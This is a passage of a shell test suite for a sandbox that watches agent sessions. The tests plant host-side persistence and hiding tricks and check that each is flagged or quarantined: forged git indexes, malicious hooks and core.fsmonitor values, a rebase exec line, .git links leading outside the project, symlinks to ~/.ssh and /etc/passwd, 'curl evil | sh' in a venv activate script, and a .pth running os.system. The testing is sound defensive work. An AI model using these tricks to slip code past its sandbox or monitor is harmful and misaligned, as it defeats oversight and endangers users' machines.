	case $(git -C "$P/lib" show HEAD:src/a.c 2>&1) in *evil*) bad "nested_tree: the user's commit in lib took the session's src/a.c" ;;
	*"int a;"*) ok ;; *) bad "nested_tree: src/a.c is not in the user's commit in lib" ;; esac
	rm -rf "$P/lib"
}

# A nested repository's untracked cache laid out as only a forger lays it
# out (untr_hidden): four bytes after the last extension, or a second
# UNTR after the first. Either is told in red and dropped, as the
# project's own is.
nested_untr_odd() {
	for how in pad dup; do
		(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
		    git config user.name t && echo a >a && git add a &&
		    git commit -qm one && git update-index --untracked-cache &&
		    git -c core.untrackedCache=true status >/dev/null) || exit 1
		cat >"$P/lib/.git/amx-odd.py" <<-'PY'
		import sys, hashlib, struct
		p, how = sys.argv[1], sys.argv[2]
		body = open(p, 'rb').read()[:-20]
		n = struct.unpack('>I', body[8:12])[0]
		off = 12
		for i in range(n):
		    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
		    off += (62 + nl + 8) & ~7
		out = bytearray(body[:off])
		untr = b''
		while off < len(body):
		    sig = body[off:off + 4]
		    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
		    if sig == b'UNTR':
		        untr = body[off:off + 8 + sz]
		    out += body[off:off + 8 + sz]
		    off += 8 + sz
		assert untr
		out += untr if how == 'dup' else b'\0\0\0\0'
		out += hashlib.sha1(out).digest()
		open(p, 'wb').write(out)
		print('patched')
		PY
		jrun -- sh -c 'cd lib && /usr/bin/python3 .git/amx-odd.py .git/index '$how
		case $OUT in *patched*) ok ;; *) bad "nested_untr $how: the forgery did not apply: $OUT" ;; esac
		case $OUT in *"the untracked cache in the index of the nested repository lib was made or changed in the session; it was laid out so that git reads another copy"*"agentmux dropped it"*) ok ;;
		*) bad "nested_untr $how: an untracked cache laid out oddly in lib/.git/index was not told: $OUT" ;; esac
		grep -q UNTR "$P/lib/.git/index" && bad "nested_untr $how: the untracked cache stayed in lib/.git/index" || ok
		rm -rf "$P/lib"
	done
}

# A nested repository the project ignores is not in the snapshot: an
# entry of lib/.git/index rewritten back to its old blob with the new
# stat data (nested_index) is found all the same, by the file itself.
nested_ignored() {
	cp "$P/.gitignore" "$T/gitignore.saved" 2>/dev/null || rm -f "$T/gitignore.saved"
	echo /lib/ >>"$P/.gitignore"
	(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && echo 1 >a && echo 3 >c && git add . &&
	    git commit -qm one) || exit 1
	jrun -- sh -c 'cd lib && o=$(git rev-parse :c) && echo "int evil;" >>c &&
	    touch -d @$(($(date +%s) - 10)) c && git add c &&
	    n=$(git rev-parse :c) && python3 -c "import hashlib, sys
o, n = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
d = open(\".git/index\", \"rb\").read()[:-20]
assert d.count(n) == 1
d = d.replace(n, o)
open(\".git/index\", \"wb\").write(d + hashlib.sha1(d).digest())" "$o" "$n" &&
	    echo forged'
	case $OUT in *forged*) ok ;; *) bad "nested_ignored: the forgery did not apply: $OUT" ;; esac
	st=$(git -C "$P/lib" status --porcelain 2>&1)
	[ -z "$st" ] && ok || bad "nested_ignored: git status in lib was not blinded (the check is void): $st"
	case $OUT in *"lib/c: its entry in the index of the nested repository lib was rewritten"*) ok ;;
	*) bad "nested_ignored: a rewritten entry in an ignored nested repository was not flagged: $OUT" ;; esac
	case $OUT in *"could not check"*) bad "nested_ignored: a check could not run: $OUT" ;; *) ok ;; esac
	rm -rf "$P/lib"
	if [ -e "$T/gitignore.saved" ]; then mv "$T/gitignore.saved" "$P/.gitignore"
	else rm -f "$P/.gitignore"; fi
}

# The hashing of a nested repository's files is bounded by their real
# size, not the index's (32 bits of it): a sparse file of 4 GiB and 2
# bytes whose entry says 2 is counted past the bound and not read.
nested_sparse() {
	cf=$XDG_CONFIG_HOME/agentmux/config
	cp "$cf" "$T/config.saved"
	sed -i 's/^file_size = .*/file_size = 8G/' "$cf"
	# Ignored by the project, so that no snapshot reads the 4 GiB.
	cp "$P/.gitignore" "$T/gitignore.saved" 2>/dev/null || rm -f "$T/gitignore.saved"
	echo /lib/ >>"$P/.gitignore"
	(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && echo l >l && git add l &&
	    git commit -qm lib) || exit 1
	jrun -- sh -c 'cd lib && for i in 1 2 3 4 5; do
	    echo x >f; touch -d @1577836800 f; c0=$(stat -c %Z f); git add f
	    truncate -s 4294967298 f; touch -d @1577836800 f
	    [ "$(stat -c %Z f)" = "$c0" ] && echo same-ctime && break
	    git rm -q --cached f; rm f; done'
	case $OUT in
	*same-ctime*)
		case $OUT in *"were not checked"*) ok ;;
		*) bad "nested_sparse: a 4 GiB file whose entry says 2 bytes was not counted past the bound: $OUT" ;; esac ;;
	*) echo "nested_sparse: the entry could not be forged in 5 tries (skipped): $OUT" ;;
	esac
	rm -rf "$P/lib"
	mv "$T/config.saved" "$cf"
	if [ -e "$T/gitignore.saved" ]; then mv "$T/gitignore.saved" "$P/.gitignore"
	else rm -f "$P/.gitignore"; fi
}

# A submodule's index (.git/modules/sub/index: sub/.git is a file naming
# it) is checked as a nested repository's: a skip-worktree mark, an entry
# rewritten back to its old blob with the new stat data, and a forged
# cache-tree there are each told in red, and the cache-tree dropped.
nested_module() {
	S=$T/modsrc
	rm -rf "$S"
	(git init -q "$S" && cd "$S" && git config user.email t@x &&
	    git config user.name t && echo 1 >a && echo 3 >c && mkdir src &&
	    echo 'int a;' >src/a.c && git add . && git commit -qm one) || exit 1
	(cd "$P" && git -c protocol.file.allow=always submodule add -q "$S" \
	    sub 2>/dev/null && git commit -qm sub) || exit 1
	[ -f "$P/sub/.git" ] && [ -d "$P/.git/modules/sub" ] ||
	    { bad "nested_module: sub is not a submodule with its git dir in .git/modules"; return; }
	tree_py "$P/.git/modules/sub/amx-tree.py"
	(cd "$P/sub" && git read-tree HEAD) || exit 1
	jrun -- sh -c 'cd sub && i=$(git rev-parse --git-path index) &&
	    b=$(echo "int evil;" | git hash-object -w --stdin) &&
	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
	    /usr/bin/python3 ../.git/modules/sub/amx-tree.py "$i" src $t &&
	    o=$(git rev-parse :c) && echo "int evil;" >>c &&
	    touch -d @$(($(date +%s) - 10)) c && git add c &&
	    n=$(git rev-parse :c) && python3 -c "import hashlib, sys
o, n, i = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[3]
d = open(i, \"rb\").read()[:-20]
assert d.count(n) == 1
d = d.replace(n, o)
open(i, \"wb\").write(d + hashlib.sha1(d).digest())" "$o" "$n" "$i" &&
	    echo evil >>a && git update-index --skip-worktree a && echo forged'
	case $OUT in *patched*forged*) ok ;; *) bad "nested_module: the forgeries did not apply: $OUT" ;; esac
	case $OUT in *"sub/a was marked skip-worktree in the index of the nested repository sub"*) ok ;;
	*) bad "nested_module: a skip-worktree mark in the submodule's index was not flagged: $OUT" ;; esac
	case $OUT in *"sub/c: its entry in the index of the nested repository sub was rewritten"*) ok ;;
	*) bad "nested_module: a rewritten entry in the submodule's index was not flagged: $OUT" ;; esac
	case $OUT in *"the cache-tree in"*"modules/sub/index"*"was forged in the session"*"agentmux dropped it"*) ok ;;
	*) bad "nested_module: a forged cache-tree in the submodule's index was not told: $OUT" ;; esac
	(cd "$P" && git submodule deinit -q -f sub 2>/dev/null; git rm -q -f sub &&
	    git commit -qm unsub && rm -rf .git/modules) || exit 1
}

# A nested repository's rebase left in progress with an exec line (review
# 8 F4: the user's 'git rebase --continue' there ran it on the host), and
# git dirs made in the session of parts left where no check looked (as an
# earlier session could leave them, made before this one here): renamed
# into place, their files keep their old ctimes, yet a git dir or hooks dir
# not of the start is the session's whole (review 9 F3), and so is the
# index of a git dir the session made. Each is moved to the quarantine,
# told; nothing runs.
nested_left() {
	: "${MARK:=$T/outside/PWNED}" # (AMX_CHECKS=nested_left: checks() did not set it)
	L=$P/lib
	rm -rf "$L" "$P/lib2" "$P/lib3" "$P/prep" "$P/prep2"
	git init -q -b main "$L" && (cd "$L" && echo a >s && git add s &&
	    git -c user.email=a@b -c user.name=a commit -qm s1 && echo b >s &&
	    git -c user.email=a@b -c user.name=a commit -qam s2) || exit 1
	jrun -- sh -c "cd lib && GIT_SEQUENCE_EDITOR='printf \"break\\nexec touch $MARK\\n\" >' \
	    git -c user.email=a@b -c user.name=a rebase -i HEAD~1 >/dev/null 2>&1
	    test -d .git/rebase-merge && echo left"
	case $OUT in *left*) ok ;; *) bad "nested_left: lib's rebase was not left in progress: $OUT" ;; esac
	case $OUT in *"$L had a rebase in progress ($L/.git/rebase-merge) made or changed while the session ran"*"git rebase --continue"*"moved to"*) ok ;;
	*) bad "nested_left: no alert about lib's rebase left in progress: $OUT" ;; esac
	[ ! -e "$L/.git/rebase-merge" ] && ok || bad "nested_left: lib's rebase was left in progress"
	(cd "$L" && git -c user.email=a@b -c user.name=a rebase --continue >/dev/null 2>&1)
	pwned && bad "nested_left: git rebase --continue in lib ran the jail's exec line" || ok
	rm -f "$MARK"
	# One the user had going, the jail did not touch, stays.
	(cd "$L" && git checkout -q main && GIT_SEQUENCE_EDITOR='printf "break\n" >' git rebase -q -i HEAD~1 >/dev/null 2>&1)
	jrun -- true
	[ -d "$L/.git/rebase-merge" ] && ok || bad "nested_left: the user's own rebase in lib was taken: $OUT"
	(cd "$L" && git rebase --abort) || exit 1
	# Parts of a git dir there before (no HEAD: none yet), with a hook and
	# core.fsmonitor; and a hooks dir.
	mkdir -p "$P/prep/hooks" "$P/prep/objects" "$P/prep/refs/heads" "$P/prep2/hooks"
	for h in "$P/prep/hooks/post-checkout" "$P/prep2/hooks/post-commit"; do
		printf '#!/bin/sh\ntouch %s\n' "$MARK" >"$h" && chmod +x "$h"
	done
	git config --file "$P/prep/config" core.repositoryformatversion 0
	git config --file "$P/prep/config" core.fsmonitor "touch $MARK; false"
	sleep 0.2
	craft_py=$(dirname "$JAIL_SCRIPT")/index-craft.py
	cp "$craft_py" "$P/.craft.py"
	jrun -- sh -c "echo 'ref: refs/heads/main' >prep/HEAD && mkdir lib2 &&
	    mv prep lib2/.git && rm -rf lib/.git/hooks && mv prep2/hooks lib/.git/hooks &&
	    git init -q lib3 && cd lib3 && /usr/bin/python3 ../.craft.py plain .git/hooks/post-checkout &&
	    echo moved"
	case $OUT in *moved*"CRAFTED plain"*|*"CRAFTED plain"*moved*) ok ;; *) bad "nested_left: the parts were not put in place: $OUT" ;; esac
	[ ! -e "$P/lib2/.git/hooks/post-checkout" ] && ok ||
	    bad "nested_left: a hook renamed into a new git dir with its old ctime was left"
	[ -z "$(git -C "$P/lib2" config core.fsmonitor)" ] && ok ||
	    bad "nested_left: core.fsmonitor renamed into a new git dir with its old ctime was left"
	[ ! -e "$L/.git/hooks/post-commit" ] && ok ||
	    bad "nested_left: a hook in a hooks dir renamed into lib's git dir was left"
	case $OUT in *"left an index in $P/lib3/.git that git's checkout could use against you"*) ok ;;
	*) bad "nested_left: the index of a git dir the session made was not checked: $OUT" ;; esac
	(cd "$P/lib2" && git status >/dev/null 2>&1; git checkout -q -b x 2>/dev/null)
	(cd "$L" && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x >/dev/null 2>&1)
	(cd "$P/lib3" && git checkout -- . 2>/dev/null; git checkout -q -b y 2>/dev/null)
	[ -e "$P/lib3/.git/hooks/post-checkout" ] &&
	    bad "nested_left: git checkout -- . in lib3 wrote the jail's entries" || ok
	pwned && bad "nested_left: the host's git ran what the parts planted" || ok
	# A hook in a hooks dir made unreadable (git runs it by name; review 11 F2).
	jrun -- sh -c "printf '#!/bin/sh\\ntouch $MARK\\n' >lib/.git/hooks/post-merge &&
	    chmod +x lib/.git/hooks/post-merge && chmod 0111 lib/.git/hooks && echo shut"
	case $OUT in *shut*) ok ;; *) bad "nested_left: the hooks dir was not shut: $OUT" ;; esac
	[ ! -e "$L/.git/hooks/post-merge" ] && ok ||
	    bad "nested_left: a hook in a hooks dir made unreadable was left: $OUT"
	chmod 0755 "$L/.git/hooks" 2>/dev/null
	# The dir a nested repository's core.hooksPath names, in the project
	# (review 11 F9: the user's next commit there ran the rewritten hook).
	rm -rf "$L"
	(git init -q -b main "$L" && mkdir -p "$L/hk" &&
	    printf '#!/bin/sh\n' >"$L/hk/pre-commit" && chmod +x "$L/hk/pre-commit" &&
	    git -C "$L" config core.hooksPath hk) || exit 1
	# Read-only in the jail, as the project's own (review 14) ...
	jrun -- sh -c "printf '#!/bin/sh\\ntouch $MARK\\n' >lib/hk/pre-commit && echo rewrote"
	case $OUT in *rewrote*) bad "nested_left: the jail rewrote a hook in lib's core.hooksPath dir: $OUT" ;; *) ok ;; esac
	[ "$(cat "$L/hk/pre-commit")" = '#!/bin/sh' ] && ok ||
	    bad "nested_left: lib's core.hooksPath dir was written in the jail"
	# ... and, where protect = none lets the agent change it, told.
	cp "$XDG_CONFIG_HOME/agentmux/config" "$T/config.hk"
	printf '[jail]\nprotect = none\n' >>"$XDG_CONFIG_HOME/agentmux/config"
	jrun -- sh -c "printf '#!/bin/sh\\ntouch $MARK\\n' >lib/hk/pre-commit && echo rewrote"
	case $OUT in *rewrote*"the repository $L runs its hooks from lib/hk (its core.hooksPath), where the session made or changed pre-commit"*) ok ;;
	*) bad "nested_left: a hook rewritten in lib's core.hooksPath dir was not told: $OUT" ;; esac
	jrun -- true
	case $OUT in *"runs its hooks from"*) bad "nested_left: an untouched core.hooksPath dir was told: $OUT" ;; *) ok ;; esac
	# Many: sixteen named, the rest counted (pre-commit among them: a
	# hook added changes the dir, and then every hook in it is told).
	jrun -- sh -c 'for i in $(seq 10 29); do echo x >lib/hk/h$i; done; echo made'
	case $OUT in *made*"where the session made or changed "*", "*" and 5 more: git runs them"*) ok ;;
	*) bad "nested_left: 21 hooks in lib's core.hooksPath dir were not told as sixteen and 5 more: $OUT" ;; esac
	cp "$T/config.hk" "$XDG_CONFIG_HOME/agentmux/config"
	rm -rf "$L" "$P/lib2" "$P/lib3" "$P/prep" "$P/prep2" "$P/.craft.py" "$MARK"
}

# With [jail] history = off the walk still finds the nested repositories
# (nothing kept): lib's index is checked as in nested_index.
nested_history_off() {
	cfg=$XDG_CONFIG_HOME/agentmux/config
	cp "$cfg" "$T/config.saved"
	printf '[jail]\nhistory = off\n' >>"$cfg"
	nested_index
	nested_left
	cp "$T/config.saved" "$cfg"
}

# A .git file or link (or a git dir's commondir) made or changed in the
# session that names a git dir outside the project (where agentmux cannot defuse it: the session's
# overlay copy of a config dir, say): it goes to the quarantine, unfollowed,
# and the session is flagged. A linked worktree's .git file there before,
# unchanged, is left alone.
dotgit_out() {
	E=$T/outside/evil
	R=$T/outside/repo
	mkdir -p "$E/objects" "$E/refs" "$P/src" "$P/lib2" || exit 1
	echo 'ref: refs/heads/main' >"$E/HEAD"
	printf '[core]\n\tbare = false\n\tfsmonitor = "touch %s; false"\n' \
	    "$MARK" >"$E/config"
	git init -q "$R" && git -C "$R" -c user.email=a@b -c user.name=a \
	    commit -q --allow-empty -m r && git -C "$R" worktree add -q \
	    "$P/wt" 2>/dev/null && git -C "$R" worktree add -q "$P/wt2" \
	    2>/dev/null || exit 1
	echo 'int z;' >"$P/src/z.c"
	jrun -- sh -c "printf 'gitdir: $E\\n' >src/.git &&
	    printf 'gitdir: $E\\n' >wt2/.git &&
	    ln -s '$E' lib2/.git && mkdir -p cd/.git &&
	    echo 'ref: refs/heads/main' >cd/.git/HEAD &&
	    echo '$E' >cd/.git/commondir && echo planted"
	case $OUT in *planted*) ok ;; *) bad "the .git plant did not run: $OUT" ;; esac
	(cd "$P/src" && git status >/dev/null 2>&1)
	(cd "$P/lib2" && git status >/dev/null 2>&1)
	(cd "$P/cd" && git status >/dev/null 2>&1)
	(cd "$P/wt2" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of a git dir outside the project a .git names" || ok
	[ ! -e "$P/src/.git" ] && [ ! -L "$P/lib2/.git" ] && ok ||
	    bad "a .git naming a git dir outside the project was left in place"
	case $OUT in *"src/.git was made or changed in the session"*"$E"*) ok ;;
	*) bad "no alert about the .git file naming a dir outside: $OUT" ;; esac
	case $OUT in *"lib2/.git was made or changed in the session"*) ok ;;
	*) bad "no alert about the .git link naming a dir outside: $OUT" ;; esac
	case $OUT in *"wt2/.git was made or changed in the session"*) ok ;;
	*) bad "no alert about a linked worktree's .git rewritten: $OUT" ;; esac
	case $OUT in *"cd/.git/commondir naming"*"not in the project"*) ok ;;
	*) bad "no alert about a commondir naming a dir outside: $OUT" ;; esac
	case $OUT in *wt/.git*) bad "a linked worktree's .git there before was flagged: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1) in *"src/.git was made or changed"*) ok ;;
	*) bad "show does not flag the .git file naming a dir outside" ;; esac
	[ "$(git -C "$P/wt" rev-parse --git-dir 2>/dev/null)" = "$R/.git/worktrees/wt" ] &&
	    ok || bad "the linked worktree's .git there before was not left alone"
	rm -rf "$P/src/z.c" "$P/src/.git" "$P/lib2" "$P/cd" "$P/wt" "$P/wt2" "$E" "$R" "$MARK"
}

# The session's own git status updated a real untracked cache (a new
# file in a dir it lists): the cache hides nothing, so it is said plainly
# and not flagged; the user's git status shows the new file.
untr_benign() {
	base=$(git -C "$P" rev-parse HEAD)
	(cd "$P" && mkdir -p src3 && echo 'int a;' >src3/a.c &&
	    git add src3/a.c && git commit -qm src3 &&
	    git update-index --untracked-cache &&
	    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
	    { bad "untr_benign: no untracked cache"; return; }
	jrun -- sh -c "$AFTER_MTIME"'
	    after_mtime src3; echo x >src3/new.txt;
	    git -c core.untrackedCache=true status --porcelain 2>&1'
	case $OUT in *"?? src3/new.txt"*) ok ;; *) bad "untr_benign: git status in the jail failed: $OUT" ;; esac
	case $OUT in *"the untracked cache in .git/index was updated in the session, as git status does; it hides no untracked file"*) ok ;;
	*) bad "untr_benign: git's own update of the untracked cache was not said plainly: $OUT" ;; esac
	case $OUT in *"untracked cache in .git/index (git's list"*) bad "untr_benign: git's own update of the untracked cache was flagged: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1) in *flags*) bad "untr_benign: the session was flagged: $("$AMX" show last 2>&1)" ;; *) ok ;; esac
	case $(git -C "$P" status --porcelain 2>&1) in *"?? src3/new.txt"*) ok ;;
	*) bad "untr_benign: the user's git status does not show src3/new.txt" ;; esac
	git -C "$P" update-index --no-untracked-cache 2>/dev/null
	git -C "$P" reset -q --hard "$base"
	rm -rf "$P/src3"
}

# Links the session made out of the project (to a dir outside, by an
# absolute path, by a relative one, or through a link there before; one
# with its mtime set back): agentmux follows none, tells each in red with
# its name and target quoted, and leaves them and what they point at
# alone. Links there before, and one inside the project, are not told.
link_out() {
	O=$T/outside/cfg
	mkdir -p "$O" "$P/lk" "$P/lk/sub"
	echo secret >"$O/settings.json"
	ln -s "$O" "$P/lk/before"
	ln -s "$T/outside" "$P/lk/up"
	jrun -- sh -c "ln -s '$O' lk/cfg && ln -s ../../../../../../../../../../../../etc lk/sub/rel &&
	    ln -s ../README lk/in && ln -s up/cfg lk/via && ln -s '$O' 'lk/bad
name' && ln -s /dev/null lk/later && touch -h -d 2001-01-01 lk/later && echo linked"
	case $OUT in *linked*) ok ;; *) bad "the links were not made: $OUT" ;; esac
	case $OUT in *"lk/cfg is a link made or changed in the session that leads out of the project, to $O;"*) ok ;;
	*) bad "no alert about a link made out of the project: $OUT" ;; esac
	case $OUT in *"lk/sub/rel is a link made or changed in the session that leads out of the project, to ../"*) ok ;;
	*) bad "no alert about a relative link out of the project: $OUT" ;; esac
	case $OUT in *"lk/via is a link made"*", to up/cfg;"*) ok ;;
	*) bad "no alert about a link out through a link there before: $OUT" ;; esac
	case $OUT in *'"lk/bad\nname" is a link made'*) ok ;;
	*) bad "a link with a newline in its name was not told quoted: $OUT" ;; esac
	case $OUT in *"lk/later is a link made"*) ok ;;
	*) bad "a link made with its mtime set back was not told: $OUT" ;; esac
	case $OUT in *"lk/in "*|*"lk/before "*|*"lk/up "*) bad "a link inside or there before was told: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1) in *"lk/cfg is a link made or changed in the session"*) ok ;;
	*) bad "show does not tell the link out of the project" ;; esac
	[ -L "$P/lk/cfg" ] && [ "$(cat "$O/settings.json")" = secret ] && ok ||
	    bad "the link out of the project or what it points at was touched"
	rm -rf "$P/lk" "$O"
}

# A link out of the project in the objects/ of a git dir the session made
# (any file as its HEAD beside it) is told and moved out, as anywhere.
objects_link() {
	jrun -- sh -c "mkdir -p x/.git/objects/ab && echo junk >x/.git/HEAD &&
	    ln -s '$HOME/.ssh' x/.git/objects/keys &&
	    ln -s /etc/passwd x/.git/objects/ab/cd && echo linked"
	case $OUT in *linked*) ok ;; *) bad "objects_link: the links were not made: $OUT" ;; esac
	case $OUT in *"x/.git/objects/keys in a git dir was made a link in the session"*) ok ;;
	*) bad "objects_link: a link out in a planted git dir's objects/ was not told: $OUT" ;; esac
	case $OUT in *"x/.git/objects/ab/cd in a git dir was made a link"*) ok ;;
	*) bad "objects_link: a link out one dir down in objects/ was not told: $OUT" ;; esac
	[ -L "$P/x/.git/objects/keys" ] && bad "objects_link: the link was left in objects/" || ok
	rm -rf "$P/x"
}

# A venv made in the session (python -m venv: bin/python3 ->
# /usr/bin/python3, beside pyvenv.cfg) is said plainly, not flagged; a
# link to ~/.ssh in the same bin dir, and one to /usr/bin/python3 in a
# bin dir with no pyvenv.cfg, are still flagged in red.
venv_link() {
	jrun -- sh -c "/usr/bin/python3 -m venv --without-pip .venv &&
	    ln -s '$HOME/.ssh' .venv/bin/keys && mkdir -p fake/bin &&
	    ln -s /usr/bin/python3 fake/bin/python && echo made"
	case $OUT in *made*) ok ;; *) bad "venv: the venv was not made: $OUT" ;; esac
	case $OUT in *".venv/bin/python3 is a link made in the session to the system interpreter /usr/bin/python3"*"not flagged"*) ok ;;
	*) bad "venv: the venv's interpreter link was not said plainly: $OUT" ;; esac
	case $OUT in *".venv/bin/python3 is a link made or changed"*) bad "venv: the venv's interpreter link was flagged: $OUT" ;; *) ok ;; esac
	case $OUT in *".venv/bin/keys is a link made or changed in the session that leads out of the project, to $HOME/.ssh;"*) ok ;;
	*) bad "venv: a link to ~/.ssh in a venv's bin dir was not flagged: $OUT" ;; esac
	case $OUT in *"fake/bin/python is a link made or changed in the session that leads out of the project"*) ok ;;
	*) bad "venv: a python link out of a dir that is no venv was not flagged: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *".venv/bin/python3 is a link made or changed"*) bad "venv: show flags the venv's interpreter" ;;
	*".venv/bin/keys is a link made or changed"*) ok ;;
	*) bad "venv: show does not flag the link to ~/.ssh" ;; esac
	rm -rf "$P/.venv" "$P/fake"
}

# Ignored programs the user runs (a venv's bin, node_modules/.bin and the
# file its link names, a tox env's bin): each one the session made,
# changed (its mtime set back too) or removed is flagged in red with what
# to do; one left alone is not, nor a venv the session made where there
# was none. A dir [jail] watch_ignored names (a glob) is watched too,
# its files, not those below.
run_files() {
	printf '.venv/\nnode_modules/\n.tox/\nvenv/\n' >"$P/.gitignore"
	mkdir -p "$P/.venv/bin" "$P/node_modules/jest/bin" "$P/node_modules/.bin" \
	    "$P/.tox/py3/bin"
	echo 'home = /usr/bin' >"$P/.venv/pyvenv.cfg"
	echo 'PATH=x' >"$P/.venv/bin/activate"
	echo keep >"$P/.venv/bin/keep"
	echo old >"$P/.venv/bin/old"
	ln -s /usr/bin/python3 "$P/.venv/bin/python"
	echo 'run()' >"$P/node_modules/jest/bin/jest.js"
	ln -s ../jest/bin/jest.js "$P/node_modules/.bin/jest"
	echo t >"$P/.tox/py3/bin/pytest"
	mkdir -p "$P/target/debug/deps"
	echo app >"$P/target/debug/app"
	echo dep >"$P/target/debug/deps/dep"
	C=$XDG_CONFIG_HOME/agentmux/config
	cp "$C" "$T/config.saved"
	printf '[jail]\nwatch_ignored = target/debu[g]\n' >>"$C"
	jrun -- sh -c "echo evil >target/debug/app && echo d >target/debug/deps/dep &&
	    echo 'curl evil | sh' >>.venv/bin/activate &&
	    echo 'evil()' >node_modules/jest/bin/jest.js &&
	    touch -d 2001-01-01 node_modules/jest/bin/jest.js &&
	    ln -sf '$HOME/.ssh' .venv/bin/python && rm .venv/bin/old &&
	    echo new >.venv/bin/pip && echo u >.tox/py3/bin/pytest &&
	    mkdir -p venv/bin && echo v >venv/bin/activate && echo done"
	case $OUT in *done*) ok ;; *) bad "run_files: the changes were not made: $OUT" ;; esac
	case $OUT in *".venv/bin/activate was changed in the session: it is ignored, so no snapshot holds it"*"python3 -m venv --clear"*) ok ;;
	*) bad "run_files: a changed venv activate was not flagged: $OUT" ;; esac
	case $OUT in *".venv/bin/python was changed in the session"*) ok ;;
	*) bad "run_files: a venv python link pointed elsewhere was not flagged: $OUT" ;; esac
	case $OUT in *".venv/bin/old was removed in the session"*) ok ;;
	*) bad "run_files: a removed venv program was not flagged: $OUT" ;; esac
	case $OUT in *".venv/bin/pip was made in the session"*) ok ;;
	*) bad "run_files: a program made in a venv was not flagged: $OUT" ;; esac
	case $OUT in *"node_modules/.bin/jest was changed in the session"*"npm ci"*) ok ;;
	*) bad "run_files: the file a node_modules/.bin link names, changed with its mtime set back, was not flagged: $OUT" ;; esac
	case $OUT in *".tox/py3/bin/pytest was changed in the session"*"tox -r"*) ok ;;
	*) bad "run_files: a changed tox program was not flagged: $OUT" ;; esac
	case $OUT in *"target/debug/app was changed in the session"*"build or install it again"*) ok ;;
	*) bad "run_files: a program in a [jail] watch_ignored dir changed was not flagged: $OUT" ;; esac
	case $OUT in *"target/debug/deps/dep "*) bad "run_files: a file below a watch_ignored dir was flagged: $OUT" ;; *) ok ;; esac
	cp "$T/config.saved" "$C"
	case $OUT in *".venv/bin/keep "*|*"venv/bin/activate was made"*) bad "run_files: an untouched program or a new venv was flagged: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
	*) bad "run_files: show does not flag the changed activate" ;; esac
	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/target" "$P/.gitignore"
}

# The same at any depth (a monorepo's web/node_modules/.bin, app/.venv/bin)
# and in a venv's site-packages, where python runs every *.pth's import
# lines and sitecustomize.py at each start: each one made or changed in
# the session is flagged; a package installed there (its own dir, a .py
# in it) is not.
run_deep() {
	SP=.venv/lib/python3.11/site-packages
	printf 'node_modules/\n.venv/\n' >"$P/.gitignore"
	mkdir -p "$P/web/node_modules/.bin" "$P/app/.venv/bin" "$P/$SP/pkg"
	echo vite >"$P/web/node_modules/.bin/vite"
	echo 'PATH=x' >"$P/app/.venv/bin/activate"
	echo /somewhere >"$P/$SP/old.pth"
	echo pass >"$P/$SP/pkg/__init__.py"
	jrun -- sh -c "echo evil >>web/node_modules/.bin/vite &&
	    echo evil >>app/.venv/bin/activate &&
	    echo 'import os; os.system(\"evil\")' >$SP/evil.pth &&
	    echo 'import os' >>$SP/old.pth && echo evil >$SP/sitecustomize.py &&
	    echo x >$SP/pkg/more.py && mkdir $SP/newpkg && echo done"
	case $OUT in *done*) ok ;; *) bad "run_deep: the changes were not made: $OUT" ;; esac
	case $OUT in *"web/node_modules/.bin/vite was changed in the session"*"npm ci"*) ok ;;
	*) bad "run_deep: a program changed in a node_modules/.bin below the top was not flagged: $OUT" ;; esac
	case $OUT in *"app/.venv/bin/activate was changed in the session"*) ok ;;
	*) bad "run_deep: a venv activate below the top changed was not flagged: $OUT" ;; esac
	case $OUT in *"$SP/evil.pth was made in the session"*"python runs it at every start"*) ok ;;
	*) bad "run_deep: a .pth made in a venv's site-packages was not flagged: $OUT" ;; esac
	case $OUT in *"$SP/old.pth was changed in the session"*) ok ;;
	*) bad "run_deep: a .pth changed in a venv's site-packages was not flagged: $OUT" ;; esac
	case $OUT in *"$SP/sitecustomize.py was made in the session"*) ok ;;
	*) bad "run_deep: a sitecustomize.py made in a venv's site-packages was not flagged: $OUT" ;; esac
	case $OUT in *"$SP/pkg"*|*"$SP/newpkg"*) bad "run_deep: a package in site-packages was flagged: $OUT" ;; *) ok ;; esac
	rm -rf "$P/web" "$P/app" "$P/.venv" "$P/.gitignore"
}

# A .git there before the session and unchanged (gitdir: ../gd/real),
# whose way to its git dir the session swapped: gd replaced by a link to a
# git dir outside with core.fsmonitor set. agentmux reads the way
# component by component, never follows the session's link, moves it to
# the quarantine and says so; host git then finds no git dir there.
dotgit_swap() {
	X=$T/outside/swap
	mkdir -p "$X/real/objects" "$X/real/refs"
	echo 'ref: refs/heads/main' >"$X/real/HEAD"
	printf '[core]\n\tbare = false\n\tfsmonitor = "touch %s; false"\n' \
	    "$MARK" >"$X/real/config"
	mkdir -p "$P/gd" && git init -q --separate-git-dir="$P/gd/real" "$P/nest" &&
	    printf 'gitdir: ../gd/real\n' >"$P/nest/.git" || exit 1
	[ "$(git -C "$P/nest" rev-parse --git-dir)" = "$P/nest/../gd/real" ] ||
	    [ "$(git -C "$P/nest" rev-parse --git-dir)" = "$P/gd/real" ] || exit 1
	jrun -- sh -c "mv gd gd.old && ln -s '$X' gd && echo swapped"
	case $OUT in *swapped*) ok ;; *) bad "the swap did not run: $OUT" ;; esac
	(cd "$P/nest" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of a git dir a swapped link led to" || ok
	[ ! -L "$P/gd" ] && ok || bad "the swapped link on the way to a .git's git dir was left"
	case $OUT in *"nest/.git, there before the session, names the git dir ../gd/real, and the way there goes through gd, a link made or changed in the session"*"moved to"*) ok ;;
	*) bad "no alert about the link swapped on the way to a git dir: $OUT" ;; esac
